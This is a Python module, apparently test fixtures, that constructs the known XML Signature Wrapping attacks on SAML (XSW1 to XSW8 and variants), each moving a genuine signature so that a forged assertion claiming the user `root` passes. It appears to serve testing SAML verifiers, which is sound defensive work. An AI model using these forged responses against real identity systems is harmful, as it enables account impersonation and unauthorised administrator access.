"""Signature wrapping (Somorovsky and others, "On Breaking SAML", 2012): a good signature carried along by another text.

Every attack is made of one good, signed assertion and says that its bearer is `root`.
"""

import copy
from collections.abc import Callable
from dataclasses import replace

from assertions import NAMESPACES, Draft, Idp, response
from lxml import etree

DS = f"{{{NAMESPACES['ds']}}}"
SAMLP = f"{{{NAMESPACES['samlp']}}}"
ROOT = "<saml:NameID>root</saml:NameID>"

type Wrap = Callable[["Wrapper"], etree._Element]


def parse(data: bytes) -> etree._Element:
    return etree.fromstring(data)


def find(element: etree._Element, name: str) -> etree._Element:
    return element.find(f".//{name}", namespaces=NAMESPACES)


def own_signature(element: etree._Element) -> etree._Element:
    return element.find("ds:Signature", namespaces=NAMESPACES)


def in_response(assertion: etree._Element) -> etree._Element:
    document = parse(response())
    document.append(assertion)
    return document


class Wrapper:
    """What attacks are made of. `draft` is of the good assertion, whose ID is `_a1`."""

    def __init__(self, idp: Idp, draft: Draft) -> None:
        self.idp = idp
        self.draft = draft
        self.good = idp.sign(draft.xml)

    def evil(self, assertion_id: str = "_evil", *, signature: bool = False) -> etree._Element:
        """The attacker's assertion: unsigned, or with the good one's signature on it."""
        made = parse(replace(self.draft, id=assertion_id, name_id=ROOT, signature="").xml.encode())
        if signature:
            made.insert(1, find(parse(self.good), "ds:Signature"))
        return made

    def bare(self) -> etree._Element:
        """The good assertion without its signature: what the signature is over."""
        bare = parse(self.good)
        bare.remove(own_signature(bare))
        return bare

    def signed_response(self) -> etree._Element:
        """A response that is signed as a whole, its assertion not."""
        inside = replace(self.draft, signature="").xml.encode()
        mark = b"<ds:Signature Id='placeholder'/>"
        return parse(self.idp.sign(response(inside, more=mark).decode(), reference="#_r1"))

    def evil_response(self) -> tuple[etree._Element, etree._Element]:
        """A copy of a signed response with another ID and subject, the signature on it; and the original, without."""
        original = self.signed_response()
        made = copy.deepcopy(original)
        made.set("ID", "_evil")
        name = find(made, "saml:NameID")
        name.text = "root"
        original.remove(own_signature(original))
        return made, original


def _xsw1(wrapper: Wrapper) -> etree._Element:
    made, original = wrapper.evil_response()
    etree.SubElement(own_signature(made), f"{DS}Object").append(original)
    return made


def _xsw2(wrapper: Wrapper) -> etree._Element:
    made, original = wrapper.evil_response()
    made.insert(1, original)
    return made


def _xsw3(wrapper: Wrapper) -> etree._Element:
    made = parse(response(wrapper.good))
    made.insert(2, wrapper.evil())
    return made


def _behind(wrapper: Wrapper) -> etree._Element:
    made = parse(response(wrapper.good))
    made.append(wrapper.evil())
    return made


def _xsw4(wrapper: Wrapper) -> etree._Element:
    made = wrapper.evil()
    made.append(parse(wrapper.good))
    return made


def _xsw5(wrapper: Wrapper) -> etree._Element:
    made = in_response(wrapper.evil(signature=True))
    made.append(wrapper.bare())
    return made


def _inside(wrapper: Wrapper) -> etree._Element:
    made = wrapper.evil(signature=True)
    made.append(wrapper.bare())
    return made


def _xsw6(wrapper: Wrapper) -> etree._Element:
    made = wrapper.evil(signature=True)
    own_signature(made).append(wrapper.bare())
    return made


def _xsw7(wrapper: Wrapper) -> etree._Element:
    made = parse(response(wrapper.good))
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(wrapper.evil("_a1"))
    made.insert(1, extensions)
    return made


def _xsw8(wrapper: Wrapper) -> etree._Element:
    made = wrapper.evil(signature=True)
    etree.SubElement(own_signature(made), f"{DS}Object").append(wrapper.bare())
    return made


WRAPPINGS: dict[str, Wrap] = {
    "XSW1, a signed response inside the signature of another": _xsw1,
    "XSW2, a signed response before the signature of another": _xsw2,
    "XSW3, another assertion before the signed one": _xsw3,
    "another assertion behind the signed one": _behind,
    "XSW4, the signed assertion inside another": _xsw4,
    "XSW4, in a response": lambda wrapper: in_response(_xsw4(wrapper)),
    "XSW5, the signature in another assertion, the signed one behind it": _xsw5,
    "the signature in another assertion, the signed one inside": _inside,
    "XSW6, the signed assertion inside the signature of another": _xsw6,
    "XSW6, in a response": lambda wrapper: in_response(_xsw6(wrapper)),
    "XSW7, another assertion among extensions": _xsw7,
    "XSW8, the signed assertion in an object of the signature": _xsw8,
    "XSW8, in a response": lambda wrapper: in_response(_xsw8(wrapper)),
}
